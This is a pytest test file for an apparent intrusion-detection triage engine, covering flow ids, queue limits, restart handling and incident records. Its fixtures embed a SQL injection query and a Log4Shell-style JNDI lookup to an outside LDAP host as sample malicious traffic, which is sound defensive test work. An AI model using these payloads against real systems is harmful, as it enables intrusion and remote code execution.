from __future__ import annotations

import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from engine.community_id import community_id
from engine.config import Settings
from engine.edge.view import BusyError
from engine.parts import load_detectors
from engine.plan import Plan
from engine.sources.event import parse
from engine.triage import SEEN_FLOWS, WAITING_EVENTS, Triage, update_of, updates_of
from engine.types import Alert, FlowState, StepKind, UpdateReason
from tests.engine.bench import Wire, assert_accounted, attack, live_plan, running, stored
from tests.factories import flow

EVENT = parse("2023-10-09T11:23:00Z 10.0.0.5:1024 203.0.113.9:443 name content")
ATTACK = parse("2023-10-09T11:23:00Z 203.0.113.9:40000 192.0.2.1:8080 sql-injection GET /?id=1' or 1=1--")


def test_a_report_is_a_flow_with_its_ends_and_not_one_packet() -> None:
    update = update_of(EVENT)
    flow = update.flow
    assert (update.reason, update.event, update.at) == (UpdateReason.REPORT, EVENT, EVENT.at)
    assert (flow.packets, flow.head, flow.state, flow.handshake) == ((0, 0), (b"", b""), FlowState.NEW, False)
    assert flow.id == community_id(6, bytes([10, 0, 0, 5]), 1024, bytes([203, 0, 113, 9]), 443)


def test_two_reports_of_one_connection_are_told_apart() -> None:
    other = parse("2023-10-09T11:23:00Z 10.0.0.5:1024 203.0.113.9:443 other content")
    assert update_of(EVENT).flow.iface != update_of(other).flow.iface


def test_what_this_host_saw_goes_with_a_report_and_no_detector_judges_it() -> None:
    report, *others = updates_of(EVENT, [flow(head=(b"${jndi:ldap://203.0.113.9/a}", b""))] * (SEEN_FLOWS + 1))
    assert (report.event, len(others)) == (EVENT, SEEN_FLOWS)
    judges = [*load_detectors(Settings(), 0.0).for_source()]
    assert [found for update in others for judge in judges for found in judge.inspect(update)] == []


async def test_one_event_too_many_is_told_to_come_later_and_none_is_counted_twice() -> None:
    class Refusing:
        async def check_model(self, name: str) -> None:
            raise LookupError(name)

    parts: Any = Refusing()
    triage = Triage(parts, parts, parts, parts, parts)
    with pytest.raises(LookupError):
        await triage.take(EVENT, (), parts, "none", None, parts)
    assert triage.fill() == (0, WAITING_EVENTS)
    triage._waiting = WAITING_EVENTS
    with pytest.raises(BusyError, match="wait for their verdict"):
        await triage.take(EVENT, (), parts, "", None, parts)


def _plan(folder: Path) -> Plan:
    return live_plan(folder, local_ips=("192.0.2.1",))


async def test_an_event_told_again_after_a_restart_takes_nothing_from_its_record(tmp_path: Path) -> None:
    for _ in range(2):
        async with running(_plan(tmp_path)) as at_work:
            view = await at_work.engine.triage(ATTACK)
    (found,) = await stored(tmp_path)
    assert found.incident.id == view.incident.id
    assert [step.kind for step in found.steps].count(StepKind.VERDICT) == 2
    assert [step.seq for step in found.steps] == list(range(1, len(found.steps) + 1))


async def test_an_event_whose_incident_has_the_id_of_another_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with running(_plan(tmp_path)) as at_work:
        first = await at_work.engine.triage(ATTACK)
        monkeypatch.setattr("engine.incidents.content_id", lambda *_: first.incident.id)
        other = replace(ATTACK, src_ip="203.0.113.77")
        await at_work.engine.incident(first.incident.id)
        with pytest.raises(RuntimeError, match="is another incident already"):
            await at_work.engine.triage(other)
        assert (await at_work.engine.incident(first.incident.id)).incident.target_ip == "203.0.113.9"


async def test_an_event_of_a_day_to_come_takes_no_alert_of_a_sensor_after_a_restart(tmp_path: Path) -> None:
    now = time.time()
    async with running(_plan(tmp_path)) as at_work:
        reported = [await at_work.engine.triage(replace(ATTACK, at=at)) for at in (now + 1e8, now)]
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        wire.send(attack(at=now))
        seen = await at_work.hears(Alert)
    assert seen.incident_id not in {view.incident.id for view in reported}


async def test_reported_events_are_in_the_accounts(tmp_path: Path) -> None:
    async with running(_plan(tmp_path)) as at_work:
        for event in (ATTACK, ATTACK, replace(ATTACK, src_ip="203.0.113.77")):
            await at_work.engine.triage(event)
        assert at_work.engine.counters().detections == 3
        assert_accounted(at_work.engine)
